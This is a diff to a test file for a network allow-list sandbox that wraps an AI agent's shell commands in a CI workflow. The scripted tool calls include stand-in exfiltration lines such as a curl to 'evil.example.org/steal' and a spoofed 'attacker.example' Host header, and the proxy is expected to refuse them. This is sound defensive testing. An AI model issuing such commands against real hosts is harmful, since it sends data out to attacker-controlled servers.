@@ -4,7 +4,7 @@
 // servers they reach are real, on this machine: an origin listening on every
 // interface, reached by its non-loopback address (which the list names) —
 // the sandbox's own loopback is its own, so nothing there is the way out.
-// The clients are real too: curl (plain HTTP, and CONNECT with --proxytunnel),
+// The clients are real too: curl (plain HTTP, and CONNECT with --proxytunnel), git,
 // npm against a registry on the origin, and Node's fetch (NODE_USE_ENV_PROXY,
 // Node 24). Names that only a DNS server could make resolve to a private
 // address are the proxy's unit tests (test/safety/network/proxy.test.ts).
@@ -55,6 +55,13 @@ socket.on('data', (data) => { console.log(String(data).split('\\r\\n')[0]); sock
 socket.on('error', (error) => console.log('failed: ' + error.code));
 `;
 
+/** This machine's name and the address it resolves to, when that address is loopback or private. */
+const LOCAL_NAME = await (async () => {
+  const name = hostname();
+  const [found] = await lookup(name, { all: true }).catch(() => []);
+  return found && restrictedKind(found.address) ? { name, address: found.address } : undefined;
+})();
+
 const REFUSED = (host: string) => `network: ${host} is not in this workflow's allow-list`;
 
 let s: Scenario;
@@ -62,12 +69,22 @@ let origin: Server;
 let port: number;
 /** Every path the origin was asked for. */
 let asked: string[];
+/** A bare repository the origin serves over git's dumb HTTP protocol (static files), under /repo.git/. */
+let served: string | undefined;
 
 beforeEach(async () => {
   asked = [];
+  served = undefined;
   // A registry's package document for npm, and "hello <path>" for everything else.
   origin = createServer((req, res) => {
     asked.push(req.url ?? '');
+    const file = served && req.url?.startsWith('/repo.git/') ? join(served, req.url.slice('/repo.git/'.length).split('?')[0]!) : undefined;
+    if (file) {
+      if (!existsSync(file)) return void res.writeHead(404).end();
+      res.end(readFileSync(file));
+      return;
+    }
+    if (req.url === '/host') return void res.end(`host ${req.headers.host}\n`);
     if (req.url === '/left-pad') {
       res.setHeader('content-type', 'application/json');
       res.end(JSON.stringify({ name: 'left-pad', 'dist-tags': { latest: '1.3.0' }, versions: { '1.3.0': { name: 'left-pad', version: '1.3.0', dist: { tarball: `http://${MACHINE}:${port}/left-pad-1.3.0.tgz` } } } }));
@@ -92,9 +109,16 @@ describe.skipIf(!bwrapWorks || !hasCurl || !MACHINE)('network: an allow-list', (
     s = await scenario({ 'README.md': '# widgets\n', 'tools/raw.js': RAW });
     s.checkout();
     const url = `http://${MACHINE}:${port}`;
+    // A repository to clone over HTTP: the scenario's own, bare, with the files git's dumb protocol reads.
+    served = join(s.base, 'served.git');
+    execFileSync('git', ['clone', '-q', '--bare', s.workspace, served]);
+    execFileSync('git', ['update-server-info'], { cwd: served });
     const calls = {
       plain: `curl -sS ${url}/plain`,
       tunnel: `curl -sS --proxytunnel ${url}/tunnel`,
+      // A front routes by Host: the proxy sends the URL's, whatever the command wrote.
+      spoof: `curl -sS -H 'Host: attacker.example' ${url}/host`,
+      git: `git clone -q ${url}/repo.git /tmp/clone && git -C /tmp/clone log -1 --format=%s`,
       npm: `npm view left-pad version --registry ${url}/ --no-update-notifier --cache /tmp/npm-cache`,
       ...(NODE_24 ? { fetch: `${NODE_24} -e "fetch('${url}/fetch').then((r) => r.text()).then((t) => process.stdout.write(t))"` } : {}),
       https: 'curl -sS https://evil.example.org/steal',
@@ -113,7 +137,9 @@ describe.skipIf(!bwrapWorks || !hasCurl || !MACHINE)('network: an allow-list', (
       (request) => {
         expect(result(request, 'plain')).toEqual({ content: 'hello /plain', is_error: false });
         expect(result(request, 'tunnel')).toEqual({ content: 'hello /tunnel', is_error: false });
+        expect(result(request, 'spoof')).toEqual({ content: `host ${MACHINE}:${port}`, is_error: false });
         expect(result(request, 'npm')).toEqual({ content: '1.3.0', is_error: false });
+        expect(result(request, 'git')).toEqual({ content: 'Initial commit', is_error: false });
         if (NODE_24) expect(result(request, 'fetch')).toEqual({ content: 'hello /fetch', is_error: false });
         // HTTPS: curl shows only "CONNECT tunnel failed, response 403"; the tool result adds the proxy's line.
         expect(result(request, 'https').is_error).toBe(true);
@@ -158,17 +184,16 @@ describe.skipIf(!bwrapWorks || !hasCurl || !MACHINE)('network: an allow-list', (
     expect(connections.find((c) => c.host === MACHINE).bytes).toBeGreaterThan(0);
   });
 
-  it('refuses a listed name that resolves to a loopback or private address unless the list names the address, or localhost, itself', async () => {
-    const name = hostname();
-    const [address] = await lookup(name, { all: true }).catch(() => []);
-    if (!address || !restrictedKind(address.address)) return; // this machine's name leads somewhere public: nothing to refuse
+  // This machine's name, where it leads to a loopback or private address (as it does on most machines and runners).
+  it.skipIf(!LOCAL_NAME)('refuses a listed name that resolves to a loopback or private address unless the list names the address, or localhost, itself', async () => {
+    const { name, address } = LOCAL_NAME!;
     s = await scenario({ 'README.md': '# widgets\n' });
     s.checkout();
     s.model.enqueue(
       // --noproxy '': through the proxy even for localhost, which NO_PROXY otherwise keeps on the sandbox's own loopback.
       reply(toolUse('Bash', { command: `curl -sS http://${name}:${port}/by-name` }, 'name'), toolUse('Bash', { command: `curl -sS --noproxy '' http://localhost:${port}/localhost` }, 'localhost')),
       (request) => {
-        expect(result(request, 'name').content).toContain(`${REFUSED(name)}: it resolves to ${address.address}, a ${restrictedKind(address.address)} address, which the list must name itself`);
+        expect(result(request, 'name').content).toContain(`${REFUSED(name)}: it resolves to ${address}, a ${restrictedKind(address)} address, which the list must name itself`);
         expect(result(request, 'localhost')).toEqual({ content: 'hello /localhost', is_error: false });
         return reply(text('Done.'));
       },
@@ -269,6 +294,34 @@ describe.skipIf(!bwrapWorks || !hasCurl || !MACHINE)('network: an allow-list', (
     expect(s.model.remaining).toBe(0);
     expect(asked).toEqual(['/verifier']);
     expect(run.summary).toContain('| `exfil.example.org` | 1 |');
+  });
+
+  it('names a few refusals in the result and the log, and counts the rest, however many hosts a command asks for', async () => {
+    s = await scenario({ 'README.md': '# widgets\n' });
+    s.checkout();
+    s.model.enqueue(reply(toolUse('Bash', { command: 'seq 1 60 | xargs -I{} curl -s -o /dev/null http://h{}.example.org/' }, 'many')), (request) => {
+      const lines = result(request, 'many').content.split('\n');
+      expect(lines.filter((line) => /^network: h\d+\.example\.org is not/.test(line))).toHaveLength(5);
+      expect(lines).toContain('network: 55 more refused (the job summary lists them)');
+      return reply(text('Done.'));
+    });
+
+    const run = await s.run('workflow_dispatch', {}, { ...task(), network: MACHINE! }, TOOLS_ENV);
+
+    expect(run.code).toBe(0);
+    expect(run.stdout.split('\n').filter((line) => line.includes("is not in this workflow's allow-list"))).toHaveLength(20);
+    expect(run.stdout).toContain('Network: more hosts refused than the log names (20); the job summary counts them.');
+    expect(run.summary.split('\n').filter((line) => /^\| `h\d+\.example\.org` \| 1 \|/.test(line))).toHaveLength(50);
+    expect(run.summary).toContain('| … 10 more hosts | 10 | (in the transcript) |');
+  });
+
+  it('stops before any model call when the list cannot be kept: there is no sandbox', async () => {
+    s = await scenario({ 'README.md': '# widgets\n' });
+    s.checkout();
+    const run = await s.run('workflow_dispatch', {}, { ...task(), network: 'npm', sandbox: 'off' }, TOOLS_ENV);
+    expect(run.code).toBe(1);
+    expect(run.stdout).toContain('::error::network is an allow-list, which only the OS sandbox can keep (sandbox: off). Set network: off (or on), or make the sandbox work on this runner.');
+    expect(s.model.requests).toHaveLength(0);
   });
 
   it('a malformed entry is one line before any model call', async () => {
